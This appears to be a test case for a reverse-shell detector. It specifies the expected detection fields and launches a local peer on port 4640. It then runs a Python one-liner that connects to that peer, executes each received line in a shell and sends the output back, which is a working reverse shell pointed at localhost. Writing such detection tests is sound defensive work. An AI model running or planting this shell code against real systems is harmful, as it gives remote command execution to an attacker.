# R39: python sends a file with the output of each command of a peer
# stage: behaviour
# within: 5500 ms
# expect: reverse_shell_detected
#   detection.reason: ~3 times in a row, over an outbound
#   detection.confidence: low
#   reverse_shell.process_list.0.process_id: $python
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4640
#   reverse_shell.process_list.length: 1

#: prepare
. lib/peers.sh
commander 4640 5 'id; sleep 0.4' 1.2
#: act
. lib/peers.sh
act
python3 -c 'import socket, subprocess
s = socket.create_connection(("127.0.0.1", 4640))
for l in s.makefile():
    subprocess.run("(" + l.strip() + ") > /tmp/r39 2>&1", shell=True)
    s.sendall(open("/tmp/r39", "rb").read())' < /dev/null > /dev/null 2>&1 & fact python $!
await 'at $python 3 socket:*'
#: clean
rm -f /tmp/r39
